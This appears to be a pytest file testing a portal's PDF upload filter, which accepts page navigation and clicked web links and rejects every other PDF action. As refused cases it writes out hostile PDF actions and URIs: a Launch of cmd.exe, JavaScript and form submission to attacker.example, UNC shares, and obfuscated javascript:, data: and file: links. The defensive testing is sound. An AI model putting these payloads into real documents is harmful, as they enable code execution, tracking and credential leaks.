"""PDF actions are allow-listed (issue 12, item 3): internal navigation and http(s) links the
reader clicks pass; every action that reaches the network, runs something, or runs on its own
is refused, wherever it sits, with a translated sentence and nothing left in storage."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from flask import Flask

from portal.storage import FileKind, check_upload
from tests.fixtures_files import PAGE, as_upload, make_pdf, make_pdf_with_action
from tests.test_storage_checks import rejected

DOCS = {FileKind.PDF, FileKind.JPEG, FileKind.PNG}
MB = 1024 * 1024


@pytest.fixture
def root(app: Flask) -> Path:
    return Path(app.config["UPLOAD_ROOT"])


def uri(value) -> dict:
    return {"/S": "/URI", "/URI": value}


def accepted_pdf(data: bytes):
    checked = check_upload(as_upload(data, "surat.pdf", "application/pdf"), DOCS, 5 * MB)
    assert checked.kind is FileKind.PDF
    return checked


def assert_refused(root: Path, data: bytes) -> None:
    error = rejected(root, data)
    assert error.code == "pdf_active_content"


# -- what stays accepted -------------------------------------------------------------------------
@pytest.mark.parametrize(
    "link",
    [
        "https://dpmptsp.example.go.id/izin",
        "http://example.org",
        "HTTPS://Example.org/a?b=1#c",
        "https://example.org:8443/x%20y",
    ],
)
def test_a_web_link_the_reader_clicks_is_accepted(root, link):
    accepted_pdf(make_pdf_with_action(uri(link), where="link"))


def test_a_link_made_by_an_ordinary_writer_is_accepted(root):
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    pdf = canvas.Canvas(buf)
    pdf.drawString(72, 770, "Lihat https://example.go.id")
    pdf.linkURL("https://example.go.id/", (72, 760, 300, 780))
    pdf.showPage()
    pdf.save()
    assert b"/URI" in buf.getvalue()
    accepted_pdf(buf.getvalue())


@pytest.mark.parametrize("where", ["link", "open", "outline", "widget", "page_aa"])
def test_going_to_a_page_of_the_file_is_accepted(root, where):
    accepted_pdf(make_pdf_with_action({"/S": "/GoTo", "/D": [PAGE, "/Fit"]}, where=where))


def test_going_to_a_named_destination_is_accepted(root):
    accepted_pdf(make_pdf_with_action({"/S": "/GoTo", "/D": "bab-1"}, where="link"))


@pytest.mark.parametrize("name", ["/NextPage", "/PrevPage", "/FirstPage", "/LastPage"])
def test_page_turning_named_actions_are_accepted(root, name):
    accepted_pdf(make_pdf_with_action({"/S": "/Named", "/N": name}, where="link"))


def test_an_open_action_that_is_a_destination_is_accepted(root):
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import ArrayObject, NameObject

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(make_pdf())))
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    out = io.BytesIO()
    writer.write(out)
    accepted_pdf(out.getvalue())


# -- what is refused -----------------------------------------------------------------------------
UNC = "\\\\attacker.example\\share\\x.pdf"


@pytest.mark.parametrize("where", ["link", "open", "page_aa"])
@pytest.mark.parametrize(
    "target", [UNC, "//attacker.example/share/x.pdf", "other.pdf", "https://attacker.example/x.pdf"]
)
def test_remote_go_to_is_refused(root, where, target):
    assert_refused(root, make_pdf_with_action({"/S": "/GoToR", "/F": target, "/D": [0, "/Fit"]}, where=where))


def test_remote_go_to_with_a_file_specification_is_refused(root):
    assert_refused(
        root,
        make_pdf_with_action(
            {"/S": "/GoToR", "/F": {"/Type": "/Filespec", "/FS": "/URL", "/F": UNC}, "/D": [0, "/Fit"]}
        ),
    )


@pytest.mark.parametrize("where", ["open", "doc_aa", "page_aa", "annot_aa", "widget", "outline"])
def test_a_web_link_that_runs_without_a_click_on_a_link_is_refused(root, where):
    assert_refused(root, make_pdf_with_action(uri("https://tracker.example/pixel"), where=where))


ACTIONS = {
    "GoToE": {"/S": "/GoToE", "/T": {"/R": "/C", "/N": "payload"}, "/D": [0, "/Fit"]},
    "GoToDp": {"/S": "/GoToDp", "/Dp": {"/Type": "/DPart"}},
    "Launch": {"/S": "/Launch", "/F": "cmd.exe", "/Win": {"/F": "cmd.exe", "/P": "/c calc"}},
    "SubmitForm": {"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "https://attacker.example/"}},
    "ImportData": {"/S": "/ImportData", "/F": UNC},
    "JavaScript": {"/S": "/JavaScript", "/JS": "app.launchURL('https://attacker.example')"},
    "Sound": {"/S": "/Sound", "/Sound": {"/R": 8000}},
    "Movie": {"/S": "/Movie", "/T": "clip"},
    "Rendition": {"/S": "/Rendition", "/OP": 0},
    "RichMediaExecute": {"/S": "/RichMediaExecute", "/TI": {"/Type": "/RichMediaInstance"}},
    "Thread": {"/S": "/Thread", "/F": UNC, "/D": 0},
    "Hide": {"/S": "/Hide", "/T": "button", "/H": True and "/true"},
    "SetOCGState": {"/S": "/SetOCGState", "/State": ["/OFF"]},
    "Trans": {"/S": "/Trans", "/Trans": {"/S": "/Dissolve"}},
    "GoTo3DView": {"/S": "/GoTo3DView", "/TA": {"/Type": "/Annot"}, "/V": 0},
    "ResetForm": {"/S": "/ResetForm"},
    "unknown type": {"/S": "/LaunchRocket"},
    "action without a type": {"/Type": "/Action"},
}


@pytest.mark.parametrize("where", ["link", "open", "page_aa"])
@pytest.mark.parametrize("name", list(ACTIONS))
def test_actions_outside_the_allow_list_are_refused(root, name, where):
    assert_refused(root, make_pdf_with_action(ACTIONS[name], where=where))


@pytest.mark.parametrize("name", ["/Print", "/SaveAs", "/Quit", "/AcroSrch:Search", "/GeneralInfo"])
def test_named_actions_other_than_page_turning_are_refused(root, name):
    assert_refused(root, make_pdf_with_action({"/S": "/Named", "/N": name}))


@pytest.mark.parametrize(
    "link",
    [
        "javascript:app.alert(1)",
        "JaVaScRiPt:app.alert(1)",
        " javascript:app.alert(1)",
        "\tjavascript:app.alert(1)",
        "java\nscript:app.alert(1)",
        "java\tscript:app.alert(1)",
        "\x00javascript:app.alert(1)",
        "%6Aavascript:app.alert(1)",
        "javascript%3Aapp.alert(1)",
        "vbscript:msgbox(1)",
        "file:///C:/Windows/System32/calc.exe",
        "FILE://attacker.example/share/x.exe",
        "file:\\\\attacker.example\\share",
        "data:text/html,<script>alert(1)</script>",
        "DATA:text/html;base64,PHNjcmlwdD4=",
        UNC,
        "//attacker.example/x",
        "relative/page.html",
        "ftp://attacker.example/x",
        "mailto:someone@example.org",
        "smb://attacker.example/share",
        "http:\\\\attacker.example",
        "https://",
        "https:///etc/passwd",
        "https://user:pass@attacker.example/",
        " https://example.org/",
        "https://example.org/ javascript:x",
        "https://exa\x00mple.org/",
        "https%3A//example.org",
    ],
)
def test_a_link_that_is_not_a_plain_web_link_is_refused(root, link):
    assert_refused(root, make_pdf_with_action(uri(link), where="link"))


def test_a_link_given_as_bytes_is_checked_the_same(root):
    assert_refused(root, make_pdf_with_action(uri(b"javascript:app.alert(1)"), where="link"))
    accepted_pdf(make_pdf_with_action(uri(b"https://example.org/"), where="link"))


def test_a_hex_escaped_action_name_is_refused(root):
    data = make_pdf_with_action({"/S": "/GoToR", "/F": UNC, "/D": [0, "/Fit"]})
    data = data.replace(b"/GoToR", b"/G#6FToR")
    assert b"/G#6FToR" in data
    assert_refused(root, data)


@pytest.mark.parametrize("hidden", ["JavaScript", "Launch", "GoToE", "SubmitForm"])
def test_an_action_hidden_in_a_next_chain_is_refused(root, hidden):
    chain = {
        "/S": "/GoTo",
        "/D": [PAGE, "/Fit"],
        "/Next": [{"/S": "/Named", "/N": "/NextPage"}, ACTIONS[hidden]],
    }
    assert_refused(root, make_pdf_with_action(chain, where="link"))


def test_a_next_chain_of_one_action_is_followed(root):
    chain = {
        "/S": "/GoTo",
        "/D": [PAGE, "/Fit"],
        "/Next": {"/S": "/GoTo", "/D": "x", "/Next": ACTIONS["Launch"]},
    }
    assert_refused(root, make_pdf_with_action(chain, where="open"))


def test_a_web_link_run_after_another_action_is_refused(root):
    # Only the click on a link may open a web page: a chained one runs by itself.
    chain = {"/S": "/GoTo", "/D": [PAGE, "/Fit"], "/Next": uri("https://tracker.example/")}
    assert_refused(root, make_pdf_with_action(chain, where="link"))


def test_a_remote_destination_given_to_go_to_is_refused(root):
    # A page number instead of a page is how remote destinations are written.
    assert_refused(root, make_pdf_with_action({"/S": "/GoTo", "/D": [0, "/Fit"]}))


def test_an_action_shared_by_a_link_and_the_open_action_is_refused(root):
    from pypdf import PdfReader, PdfWriter

    data = make_pdf_with_action(uri("https://tracker.example/"), where="link")
    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(data)))
    from pypdf.generic import NameObject

    annot = writer.pages[0]["/Annots"][0].get_object()
    writer._root_object[NameObject("/OpenAction")] = annot.raw_get("/A")
    out = io.BytesIO()
    writer.write(out)
    assert_refused(root, out.getvalue())


def test_the_refusal_is_a_translated_sentence(app, root):
    with app.test_request_context("/?lang=id"):
        error = rejected(root, make_pdf_with_action(uri("javascript:app.alert(1)")))
        assert error.code == "pdf_active_content"
        assert "pdf_active_content" not in error.message()
        assert (
            error.message() != "The PDF contains scripts, actions or attached files, which are "
            "not accepted. Print it to a new PDF (File, Print, Save as PDF) "
            "and upload that copy."
        )
